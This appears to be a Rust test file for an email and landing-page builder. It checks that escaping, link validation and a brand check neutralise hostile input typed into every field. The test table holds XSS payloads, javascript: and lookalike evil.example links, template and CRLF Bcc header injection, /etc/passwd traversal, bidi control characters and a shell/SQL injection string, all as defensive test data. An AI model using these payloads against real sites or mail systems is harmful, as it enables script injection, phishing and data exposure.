//! What hostile people type: in every place at once, it comes out as words, and what is odd about it is found.
use super::*;
use crate::check::{Finding, Weight, check};
use crate::{BrandRules, Token, links};

/// Typed into every place where words can be: whether the brand check stops it. Drawings are harmless either way.
const TYPED: &[(&str, bool)] = &[
    ("<script>alert(1)</script>", false),
    ("<img src=x onerror=alert(1)>", false),
    ("\"><svg onload=alert(1)>", false),
    ("'><iframe src=//evil.example>", false),
    ("</td></tr></table><h1>Owned", false),
    ("</style><script>alert(1)</script>", false),
    ("</title><script>alert(1)</script>", false),
    ("--><script>alert(1)</script><!--", false),
    ("<!--[if mso]><script>alert(1)</script><![endif]-->", false),
    ("]]><script>alert(1)</script>", false),
    ("<mj-raw><script>alert(1)</script></mj-raw>", false),
    ("</mj-text><mj-include path=\"/etc/passwd\" />", false),
    ("<mj-include path=\"https://evil.example/x.mjml\"/>", false),
    ("&lt;script&gt;alert(1)&lt;/script&gt;", false),
    ("&#60;script&#62;", false),
    ("&#x3c;script&#x3e;", false),
    ("<a href=\"javascript:alert(1)\">x</a>", false),
    ("<form action=https://evil.example><input name=password></form>", true),
    ("<meta http-equiv=refresh content=0;url=https://evil.example>", true),
    ("<base href=//evil.example>", false),
    ("<link rel=stylesheet href=//evil.example/x.css>", false),
    ("<style>*{display:none}</style>", false),
    ("x\" onmouseover=\"alert(1)", false),
    ("x' onfocus='alert(1)' autofocus='", false),
    ("x` onclick=`alert(1)", false),
    ("[click](javascript:alert(1))", true),
    ("[click](JaVaScRiPt:alert(1))", true),
    ("[click](java\tscript:alert(1))", true),
    ("[click]( javascript:alert(1))", true),
    ("[click](data:text/html;base64,PHNjcmlwdD4=)", true),
    ("[click](vbscript:msgbox(1))", true),
    ("[click](file:///etc/passwd)", true),
    ("[click](//evil.example)", true),
    ("[click](http://evil.example)", true),
    ("[click](https://evil.example)", true),
    ("[click](https://harbor.example@evil.example)", true),
    ("[click](https://harbor.example\\@evil.example)", true),
    ("[click](https://harbor.example\" onclick=\"alert(1))", true),
    ("[click](https://harbor.example/><script>alert(1)</script>)", true),
    ("[click](https://hаrbor.example)", true),
    ("[click](https://evil.example\u{202e}elpmaxe.robrah)", true),
    ("[<b>x</b>](https://harbor.example)", false),
    ("[![x](https://evil.example/p.gif)](https://harbor.example)", true),
    ("![x](https://evil.example/p.gif)", true),
    ("[x]: https://evil.example", true),
    ("[[x](https://harbor.example)", false),
    ("[x](mailto:a@b.example?bcc=c@d.example)", true),
    ("[x](mailto:a@b.example%0d%0aBcc:c@d.example)", true),
    ("[x](tel:+1;ext=<script>)", true),
    ("{{first_name|{{company|x}}}}", true),
    ("{{first_name|<script>alert(1)</script>}}", false),
    ("{{first_name|\"><img src=x>}}", false),
    ("{{first_name|[x](javascript:alert(1))}}", true),
    ("{{constructor}}", true),
    ("{{#each recipients}}{{email}}{{/each}}", true),
    ("{{{first_name}}}", true),
    ("{{ first_name | upper }} {% include 'x' %} ${x} <%= x %>", false),
    ("{{first_name", true),
    ("}}{{", true),
    ("~~0~~ ~~1~~ ~~999999999999999999999~~ ~~", false),
    ("a\r\nBcc: victim@example.com\r\n\r\nbody", false),
    ("a\nContent-Type: text/html\n\n<b>", false),
    ("a\u{2028}Bcc: b\u{2029}c\u{85}d\u{b}e\u{c}f", false),
    ("\u{202e}gnp.exe\u{202c} \u{2066}x\u{2069} \u{200f}", false),
    ("a\u{0}b\u{7}c\u{1b}[31md\u{7f}", false),
    ("z\u{200b}e\u{200d}r\u{feff}o\u{ad}", false),
    ("\u{e0041}\u{e0042}\u{fff9}x\u{fffb}", false),
    ("**bold **never** closed", false),
    ("************", false),
    ("- - - -\n- **\n- [", false),
    ("[x](https://harbor.example/)\n[y](", false),
    ("=HYPERLINK(\"https://evil.example\")", true),
    ("%3Cscript%3Ealert(1)%3C/script%3E", false),
    ("\u{ff1c}script\u{ff1e}alert(1)", false),
    ("$(touch /tmp/x) `id` ; drop table users; --", false),
];

fn rules() -> BrandRules {
    BrandRules { link_hosts: vec!["harbor.example".to_owned()], ..BrandRules::default() }
}

/// A content that says it everywhere.
fn said(words: &str) -> (Content, Setting) {
    let typed = words.to_owned();
    let mut content = everything();
    (content.subject, content.other_subject, content.summary) = (typed.clone(), typed.clone(), typed.clone());
    for block in &mut content.blocks {
        match &mut block.part {
            Part::Columns { .. } | Part::PartnerCard | Part::Divider => {}
            Part::Heading { text } | Part::Text { text } | Part::Footer { text } => text.clone_from(&typed),
            Part::Image { alt, .. } => alt.clone_from(&typed),
            Part::Button { label, .. } => label.clone_from(&typed),
            Part::Quote { text, by } => (*text, *by) = (typed.clone(), typed.clone()),
            Part::Event { place, .. } => place.clone_from(&typed),
            Part::Form { label, fields, consent, thanks } => {
                (*label, *consent, *thanks) = (typed.clone(), typed.clone(), typed.clone());
                *fields = vec![typed.clone()];
            }
        }
    }
    let mut setting = setting();
    let card = &mut setting.card;
    for text in [&mut card.name, &mut card.about, &mut card.address, &mut card.signed_by, &mut card.signed_as]
    {
        text.clone_from(&typed);
    }
    setting.brand.name.clone_from(&typed);
    setting.brand.footer = vec![typed];
    (content, setting)
}

/// Whether a document holds but our own elements, attributes and addresses.
fn assert_harmless(html: &str, typed: &str) {
    const TAGS: &str = " html head body meta title style link div span p h1 h2 strong ul li a img table tbody tr td br hr \
        header main footer section figure blockquote figcaption time form input label small button bdi noscript xml \
        o:officedocumentsettings o:allowpng o:pixelsperinch ";
    let mut rest = html;
    while let Some(at) = rest.find('<') {
        rest = &rest[at + 1..];
        let end = rest.find('>').unwrap_or(rest.len());
        let tag = &rest[..end];
        rest = &rest[end..];
        if tag.starts_with('!') {
            assert!(
                tag.starts_with("!doctype")
                    || tag.starts_with("!--[if")
                    || tag.starts_with("![endif]")
                    || tag == "!--"
                    || tag == "!--<![endif]--",
                "{typed:?}: <{tag}>"
            );
            continue;
        }
        let name =
            tag.trim_start_matches('/').split([' ', '/', '\n']).next().unwrap_or_default().to_lowercase();
        assert!(TAGS.contains(&format!(" {name} ")), "{typed:?}: <{tag}>");
        if name == "style" {
            let end = rest.find("</style").unwrap_or(rest.len());
            rest = &rest[end..];
            continue;
        }
        let mut attributes = tag.split('"');
        while let (Some(before), value) = (attributes.next(), attributes.next()) {
            let attribute = before.trim().trim_end_matches('=').rsplit(' ').next().unwrap_or_default();
            let Some(value) = value else { break };
            assert!(!attribute.to_lowercase().starts_with("on"), "{typed:?}: <{tag}>");
            if attribute == "href" || attribute == "src" {
                let fine = [
                    "https://partners.example/",
                    "https://harbor.example",
                    "https://www.brueckner-it.example",
                    "https://docs.harbor.example/",
                    "mailto:hallo@brueckner-it.example",
                    "tel:+49561123456",
                    "#",
                ];
                assert!(fine.iter().any(|fine| value.starts_with(fine)), "{typed:?}: {value}");
            }
        }
    }
    assert!(!html.contains(links::is_unseen), "{typed:?}: what turns or hides letters");
    assert!(!html.contains(|c: char| c.is_control() && c != '\n'), "{typed:?}: controls");
}

#[test]
fn whatever_is_typed_is_words() {
    assert!(TYPED.len() >= 60);
    for (typed, stops) in TYPED {
        let (content, setting) = said(typed);
        let mail = mail(&content, &setting);
        let values = Values::from(
            [Token::FirstName, Token::LastName, Token::Company].map(|token| (token, (*typed).to_owned())),
        );
        let link = |n: u16| format!("https://partners.example/m/c/{n}");
        let personal = Personal {
            values: &values,
            link: &link,
            unsubscribe: "https://partners.example/u",
            opened: "https://partners.example/o",
        };
        assert_harmless(&mail.html.fill(&personal, true), typed);
        let subject = mail.subject.fill(&personal, false);
        assert!(!subject.contains(|c: char| c.is_control() || links::is_unseen(c)), "{typed:?}: {subject:?}");
        let text = mail.text.fill(&personal, false);
        assert!(
            !text.contains(|c: char| (c.is_control() && c != '\n') || links::is_unseen(c)),
            "{typed:?}: {text:?}"
        );
        assert!(mail.links.iter().all(|url| links::read(url).is_some()), "{typed:?}: {:?}", mail.links);
        let form = FormState {
            values: [("email".to_owned(), (*typed).to_owned())].into(),
            errors: [("email".to_owned(), "No.".to_owned())].into(),
            ..FormState::default()
        };
        assert_harmless(&page(&content, &setting, &form, "n"), typed);
        assert_harmless(
            &page(&content, &setting, &FormState { sent: true, ..FormState::default() }, "n"),
            typed,
        );
        let found = check(&email(content.clone()), "en", &content, &setting.card, &rules());
        let stopped = found
            .iter()
            .any(|one| one.weight == Weight::Stops && !one.spot.block.is_empty() && one.spot.block != "card");
        let expected = *stops || stopped && typed.contains("evil.example");
        assert_eq!(stopped, expected, "{typed:?}: {found:?}");
    }
}

#[test]
fn buttons_lead_to_nowhere_rather_than_elsewhere() {
    for url in [
        "javascript:alert(1)",
        "JAVASCRIPT:alert(1)",
        " https://harbor.example",
        "https://harbor.example\r\nX: y",
        "http://harbor.example",
        "https:harbor.example",
        "https:///harbor.example",
        "https://",
        "https://a b.example",
        "https://[::1]/",
        "https://localhost",
        "https://user:pass@harbor.example",
        "https://harbor.example:80x",
        "ftp://harbor.example",
        "data:text/html,x",
        "\u{202e}https://harbor.example",
    ] {
        let mut content = everything();
        content.blocks = vec![block("b", button("Go", Target::Url { url: url.to_owned() }))];
        let (html, text) = filled(&mail(&content, &setting()));
        assert!(!html.contains(">Go<") && !text.contains("Go:"), "{url}");
        assert!(!page(&content, &setting(), &FormState::default(), "n").contains(">Go<"), "{url}");
        let found = check(&email(content.clone()), "en", &content, &card(), &rules());
        let malformed = found.iter().filter(|one| one.finding == Finding::LinkMalformed).count();
        assert_eq!(malformed, 1, "{url}: {found:?}");
    }
}

proptest::proptest! {
    #![proptest_config(proptest::test_runner::Config::with_cases(64))]
    #[test]
    fn so_is_whatever_nobody_thought_of(typed in "([<>\"'&{}|*\\[\\]()~/:; \\-\r\n]|script|href=|https://|first_name|\\PC|\\u{202e}){0,60}") {
        let (content, setting) = said(&typed);
        let mail = mail(&content, &setting);
        assert_harmless(&filled(&mail).0, &typed);
        assert_harmless(&page(&content, &setting, &FormState::default(), "n"), &typed);
        assert!(mail.links.iter().all(|url| links::read(url).is_some()));
        let _ = check(&email(content.clone()), "en", &content, &setting.card, &rules());
    }
}

#[test]
fn columns_in_columns_are_looked_at_as_well() {
    let inner = Part::Columns { left: vec![block("deep", text("{{nothing}}"))], right: Vec::new() };
    let mut content = everything();
    content
        .blocks
        .push(block("outer", Part::Columns { left: vec![block("inner", inner)], right: Vec::new() }));
    let found = check(
        &email(content.clone()),
        "en",
        &content,
        &card(),
        &BrandRules { link_hosts: vec!["harbor.example".to_owned()], ..BrandRules::default() },
    );
    assert_eq!(found.iter().map(|one| one.spot.block.as_str()).collect::<Vec<_>>(), ["deep"]);
}

#[test]
fn much_of_it_is_done_in_no_time() {
    let begun = std::time::Instant::now();
    for unit in ["[", "**", "{{", "[x](", "{{first_name|", "- ", "<", "~~", "a]("] {
        let typed = unit.repeat(5_000 / unit.len());
        let (content, setting) = said(&typed);
        let mail = mail(&content, &setting);
        assert_harmless(&filled(&mail).0, unit);
        assert!(check(&email(content.clone()), "en", &content, &setting.card, &rules()).len() < 2_000);
    }
    assert!(begun.elapsed().as_secs() < 20, "{:?}", begun.elapsed());
}

#[test]
fn pictures_are_handed_out_by_hash_alone() {
    for hash in ["../../etc/passwd", "ab\"onerror=\"x", "", "https://evil.example/x"] {
        let mut content = everything();
        let picture = Picture::Uploaded { hash: hash.to_owned() };
        content.blocks = vec![block("b", Part::Image { picture, alt: "Alt".to_owned() })];
        assert!(!filled(&mail(&content, &setting())).0.contains("alt=\"Alt\""), "{hash}");
    }
}
